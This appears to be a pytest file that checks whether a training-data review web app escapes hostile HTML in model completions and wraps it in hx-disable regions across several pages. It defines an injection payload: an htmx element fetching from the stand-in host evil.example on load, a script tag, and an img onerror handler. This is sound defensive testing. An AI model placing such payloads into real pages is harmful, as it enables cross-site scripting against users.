"""What a model writes is hostile: on every page of training it is text, and out of htmx's reach."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest

from feedback.models import canonical_json
from tests import factories
from training.models import Review, ReviewItem, RunSample

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}
HOSTILE = (
    "<div hx-get='https://evil.example/' hx-trigger='load'>{mark}</div>"
    "<script>{mark}</script><img src=x onerror={mark}>"
)
MESSAGES = [{"role": "user", "content": HOSTILE.format(mark="asked")}]


class Reader(HTMLParser):
    """Where the marks stand: as text below `hx-disable`, as text elsewhere, or in markup."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[tuple[str, bool]] = []
        self.shielded: list[str] = []
        self.bare: list[str] = []
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        text = " ".join(value or "" for _name, value in attrs)
        if "evil.example" in text or any(name == "onerror" for name, _value in attrs):
            self.live.append(self.get_starttag_text() or tag)
        if tag not in VOID:
            self.open.append((tag, any(name == "hx-disable" for name, _value in attrs)))

    def handle_endtag(self, tag: str) -> None:
        while self.open and self.open.pop()[0] != tag:
            pass

    def handle_data(self, data: str) -> None:
        if "evil" in data:
            (self.shielded if any(off for _tag, off in self.open) else self.bare).append(data)


def read(page: str) -> Reader:
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader


def text(mark: str) -> str:
    return HOSTILE.format(mark=mark)


@pytest.fixture
def pages(project: Any) -> dict[str, int]:
    """Addresses below the project, and how many hostile texts each shows."""
    base = factories.make_model_version(project=project, kind="base", number=0)
    policy = factories.make_model_version(project=project, number=1)
    prompt = factories.make_prompt(project=project, text=text("asked"))
    ours = factories.make_completion(prompt=prompt, text=text("ours"), model_version=policy)
    theirs = factories.make_completion(prompt=prompt, text=text("theirs"), model_version=base)
    review = Review.objects.create(
        project=project,
        candidate=policy,
        baseline=base,
        state="closed",
        plan={"prompts": 1, "overlap": 1, "prompts_from": {}},
        verdict={"words": "closed without a judgement"},
    )
    ReviewItem.objects.create(
        review=review,
        comparison=factories.make_comparison(prompt=prompt, purpose="review"),
        candidate_completion=ours,
        baseline_completion=theirs,
    )
    run = factories.make_run(project=project, state="running", inputs={"policy": base})
    RunSample.objects.create(run=run, step=1, index=0, messages=MESSAGES, completion=text("sampled"))
    pair = {"prompt": MESSAGES, "chosen": text("chosen"), "rejected": text("rejected")}
    shown = {"prompt": MESSAGES, "completion": text("shown")}
    pairs, demonstrations = (
        factories.make_snapshot(project=project, kind=kind, text=canonical_json(row) + "\n")
        for kind, row in (("preferences", pair), ("demonstrations", shown))
    )
    compare = f"versions/compare/?a={base.pk}&b={policy.pk}"
    return {
        f"runs/{run.pk}/": 2,
        f"runs/{run.pk}/status/": 2,
        compare: 3,
        f"{compare}&diff=1": 3,
        f"reviews/{review.pk}/": 3,
        f"snapshots/{pairs.pk}/": 3,
        f"snapshots/{demonstrations.pk}/": 2,
    }


def test_hostile_texts_are_text_and_shielded(
    project: Any, engineer: Any, sign_in: Any, pages: dict[str, int]
) -> None:
    browser = sign_in(engineer)
    for address, texts in pages.items():
        answer = browser.get(f"/p/{project.slug}/{address}")
        assert answer.status_code == 200, address
        found = read(answer.content.decode())
        assert not found.live, address
        assert not found.bare, address
        assert sum(data.count("evil") for data in found.shielded) == texts, address


def test_the_reader_sees_what_it_looks_for() -> None:
    naked = read(f"<p hx-disable>a</p><p>{text('b')}</p>")
    assert len(naked.live) == 2 and not naked.shielded
    assert read("<p>evil</p>").bare and read("<p hx-disable>a <b>evil</b></p>").shielded == ["evil"]
